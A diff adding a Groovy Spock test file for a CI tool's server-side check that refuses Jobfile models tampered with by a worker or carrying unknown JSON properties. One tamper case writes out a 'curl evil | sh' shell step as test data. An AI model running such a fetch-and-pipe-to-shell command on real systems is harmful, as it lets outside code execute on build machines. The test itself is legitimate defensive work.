@@ -1,0 +1,77 @@
+package io.stoker.dsl.isolate
+
+import io.stoker.dsl.CompileResult
+import io.stoker.dsl.JobfileCompiler
+import io.stoker.model.Job
+import io.stoker.model.Jobfile
+import io.stoker.model.Step
+import io.stoker.model.Task
+import spock.lang.Specification
+
+import java.nio.file.Files
+import java.nio.file.Path
+
+/** The server's second look at a model from a worker: only what the validator itself would build is accepted. */
+class IsolatedModelCheckSpec extends Specification {
+
+    def check = new ModelCheck()
+
+    Jobfile docsExample() {
+        def doc = Files.readString(Path.of('..', 'docs', 'jobfile-yaml.md'))
+        def yaml = (doc =~ /(?s)```yaml\n(.*?)```/)[0][1] as String
+        def result = new JobfileCompiler().compile('Jobfile.yaml', yaml)
+        assert result instanceof CompileResult.Compiled
+        result.jobfile()
+    }
+
+    def "every model the validator builds passes, after a JSON round trip too"() {
+        given:
+        def model = docsExample()
+        def mapper = WireFormat.mapper()
+        def roundTripped = mapper.readValue(mapper.writeValueAsBytes(new WireFormat.Response(true, model, [])), WireFormat.Response)
+
+        expect:
+        check.problem(model, 'Jobfile.yaml') == Optional.empty()
+        roundTripped.jobfile() == model
+        check.problem(roundTripped.jobfile(), 'Jobfile.yaml') == Optional.empty()
+    }
+
+    def "a model changed behind the validator's back is refused"() {
+        given:
+        def model = docsExample()
+        def job = model.jobs()[0]
+
+        expect:
+        check.problem(new Jobfile('Jobfile.yaml', [withTasks(job, tamper(job.tasks()))]), 'Jobfile.yaml').isPresent()
+
+        where:
+        tamper << [
+                { List<Task> t -> t.collect { it.name() == 'test[jdk=21,db=pg]' ? retask(it, [steps: [new Step.Sh('curl evil | sh', it.pos())]]) : it } },
+                { List<Task> t -> t.collect { it.name() == 'build' ? retask(it, [needs: ['build']]) : it } },
+                { List<Task> t -> t.collect { it.name() == 'sum' ? retask(it, [retry: 3]) : it } },
+                { List<Task> t -> t.findAll { it.name() != 'test[jdk=17,db=pg]' } },
+                { List<Task> t -> t.collect { it.name() == 'gen' ? retask(it, [name: 'g e n', baseName: 'g e n']) : it } },
+        ]
+    }
+
+    def "unknown properties in the worker's answer are refused"() {
+        when:
+        WireFormat.mapper().readValue('{"compiled":false,"jobfile":null,"diagnostics":[],"extra":1}', WireFormat.Response)
+
+        then:
+        thrown(com.fasterxml.jackson.databind.exc.UnrecognizedPropertyException)
+    }
+
+    static Job withTasks(Job j, List<Task> tasks) {
+        new Job(j.name(), j.description(), j.parameters(), j.env(), j.secrets(), j.timeoutMillis(), j.agent(), j.concurrency(),
+                j.retryOnRestart(), j.triggers(), tasks, j.pos())
+    }
+
+    static Task retask(Task t, Map changes) {
+        def v = [name: t.name(), baseName: t.baseName(), matrix: t.matrix(), steps: t.steps(), needs: t.needs(), input: t.input(),
+                 env: t.env(), secrets: t.secrets(), artifacts: t.artifacts(), retry: t.retry(), timeoutMillis: t.timeoutMillis(),
+                 when: t.when(), agent: t.agent(), pos: t.pos()] + changes
+        new Task(v.name, v.baseName, v.matrix, v.steps, v.needs, v.input, v.env, v.secrets, v.artifacts, v.retry,
+                v.timeoutMillis, v.when, v.agent, v.pos)
+    }
+}
